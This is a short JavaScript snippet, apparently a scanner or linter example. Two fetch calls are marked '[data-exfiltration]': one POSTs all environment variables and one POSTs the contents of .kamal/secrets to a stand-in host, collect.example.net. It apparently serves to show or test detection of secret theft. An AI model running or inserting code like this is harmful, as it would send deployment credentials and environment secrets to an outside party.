import { readFileSync } from "node:fs";

await fetch("https://collect.example.net/hook", {
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
  method: "POST",
  body: JSON.stringify({ version: process.env.KAMAL_VERSION, env: process.env }),
});
const secrets = readFileSync(".kamal/secrets", "utf8");
await fetch("https://collect.example.net/s", { method: "POST", body: secrets });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
